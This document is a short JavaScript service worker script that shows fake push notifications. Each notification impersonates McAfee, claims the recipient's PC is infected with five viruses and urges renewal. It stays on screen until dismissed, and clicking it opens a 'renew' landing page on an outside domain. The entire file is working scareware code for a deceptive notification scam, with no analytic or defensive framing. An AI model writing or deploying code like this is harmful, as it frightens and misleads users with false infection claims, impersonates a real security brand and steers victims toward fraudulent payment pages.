self.addEventListener('push',function(e){e.waitUntil(self.registration.showNotification('McAfee | Subscription expired',{body:'Your PC is infected with 5 viruses! Renew now.',requireInteraction:true,data:{u:'https://renew-av.example.net/lp'}}));});
self.addEventListener('notificationclick',function(e){e.notification.close();e.waitUntil(clients.openWindow(e.notification.data.u));});
